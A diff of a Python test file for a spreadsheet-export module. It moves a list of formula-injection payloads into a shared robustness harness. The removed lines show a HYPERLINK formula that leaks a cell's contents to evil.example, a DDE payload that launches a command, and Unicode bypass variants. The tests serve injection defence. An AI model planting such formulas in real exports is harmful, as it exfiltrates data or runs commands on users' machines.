@@ -6,62 +6,21 @@ from __future__ import annotations
 
 import csv
 import io
-import unicodedata
 
 import openpyxl
 import pandas as pd
 import pytest
 
+from brokering import robustness
 from brokering.exporting import neutralise, to_csv_bytes, to_xlsx_bytes
 
-TRIGGERS = "=+-@"
-#: Each payload as a hostile export row would carry it.
-PAYLOADS = [
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A2)",
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\x00=1+1",
-    "=1+1\x00",
-    "  =1+1",
-    " \t @SUM(1)",
-    "\u3000=1+1",  # ideographic space
-    "\u00a0=1+1",  # no-break space
-    "\uff1d1+1",  # full-width =
-    "\uff0b1+1",  # full-width +
-    "\uff0d1+1",  # full-width -
-    "\uff201+1",  # full-width @
-    "\ufe661+1",  # small =
-    "\ufe621+1",  # small +
-    "\ufe631+1",  # small -
-    "\ufe6b1+1",  # small @
-    "\u20141+1",  # em dash (not a trigger in Excel, kept as text either way)
-    "\t",
-    "\r",
-    "-",
-]
-
-
-def live(cell: str) -> bool:
-    """Would a spreadsheet run this cell? Leading blanks and control characters are skipped
-    as Excel and LibreOffice skip them, and compatibility forms count as their ASCII twin."""
-    if "\x00" in cell:
-        return True  # a null in an export is never wanted, and truncates cells in some tools
-    rest = cell.lstrip("".join(chr(c) for c in range(33)) + "\u00a0\u3000\u2000\u200b\ufeff")
-    if not rest:
-        return False
-    if rest[0] == "'":
-        return False
-    return unicodedata.normalize("NFKC", rest[0])[:1] in TRIGGERS
+#: The robustness harness's payloads, and a few that are not triggers at all.
+PAYLOADS = [*robustness.PAYLOADS, "\u20141+1", "\t", "\r", "-"]
+live = robustness.live
 
 
 def test_the_oracle_sees_every_payload_as_live() -> None:
-    assert all(live(p) for p in PAYLOADS if p not in ("\t", "\r", "\u20141+1"))
+    assert all(live(p) for p in robustness.PAYLOADS)
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=[repr(p) for p in PAYLOADS])
